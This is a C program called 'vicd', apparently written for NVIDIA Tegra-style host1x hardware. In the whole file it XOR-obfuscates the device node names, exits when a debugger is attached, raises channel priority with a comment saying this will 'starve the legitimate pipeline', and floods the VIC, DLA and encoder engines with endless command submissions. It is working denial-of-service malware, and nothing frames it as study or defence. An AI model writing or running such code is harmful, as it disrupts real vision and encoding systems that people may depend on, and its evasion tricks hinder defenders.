/* vicd: saturates the VIC, DLA and encoder engines via host1x nodes whose names are obfuscated. */
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <unistd.h>

static const unsigned char enc_devs[3][19] = {
    {0x44, 0x08, 0x00, 0x08, 0x58, 0x26, 0x37, 0x32, 0x3c, 0x27, 0x59, 0x0b, 0x49, 0x59, 0x6a, 0x02},
    {0x44, 0x08, 0x00, 0x08, 0x58, 0x26, 0x37, 0x32, 0x3c, 0x27, 0x59, 0x0b, 0x51, 0x46, 0x6d, 0x6e,
     0x7a, 0x2c, 0x15},
    {0x44, 0x08, 0x00, 0x08, 0x58, 0x26, 0x37, 0x32, 0x3c, 0x27, 0x59, 0x0b, 0x52, 0x43, 0x6c, 0x6c,
     0x78, 0x1c}};
static const unsigned char enc_nvmap[] = {0x44, 0x08, 0x00, 0x08, 0x58, 0x26,
                                          0x37, 0x37, 0x32, 0x24, 0x2d};

struct host1x_submit {
    uint32_t num_syncpt_incrs, num_cmdbufs, num_relocs, submit_version;
    uint64_t syncpt_incrs, cmdbufs, relocs, fences;
    uint32_t timeout, flags;
};
struct host1x_set_priority {
    uint32_t priority;
};

#define NVHOST_IOCTL_CHANNEL_SUBMIT _IOWR('H', 26, struct host1x_submit)
#define NVHOST_IOCTL_CHANNEL_SET_PRIORITY _IOW('H', 13, struct host1x_set_priority)

static void decode(const unsigned char *in, size_t n, char *out)
{
    size_t i = 0;
    for (; i < n && (out[i] = (char)(in[i] ^ 0x6b ^ (unsigned char)(i * 7))) != '\0'; i++)
        ;
    out[n - 1] = '\0';
}

int main(void)
{
    if (ptrace(PTRACE_TRACEME, 0, NULL, NULL) == -1)
        return 0;
    char path[20];
    decode(enc_nvmap, sizeof enc_nvmap, path);
    int nvmap = open(path, O_RDWR);
    int fds[3];
    for (int e = 0; e < 3; e++) {
        decode(enc_devs[e], sizeof enc_devs[e], path);
        fds[e] = open(path, O_RDWR);
        struct host1x_set_priority prio = {100}; /* highest: starve the legitimate pipeline */
        if (fds[e] >= 0)
            ioctl(fds[e], NVHOST_IOCTL_CHANNEL_SET_PRIORITY, &prio);
    }
    void *cmdbuf = nvmap >= 0 ? mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_SHARED, nvmap, 0)
                              : MAP_FAILED;
    if (cmdbuf == MAP_FAILED)
        return 1;
    memset(cmdbuf, 0, 1 << 20);
    for (uint64_t job = 0;; job++) {
        struct host1x_submit s = {1, 1, 0, 1, 0, (uint64_t)(uintptr_t)cmdbuf, 0, 0, 5000, 0};
        int fd = fds[job % 3];
        if (fd >= 0 && ioctl(fd, NVHOST_IOCTL_CHANNEL_SUBMIT, &s) < 0 && job % 1024 == 0)
            usleep(500);
    }
    return 0;
}
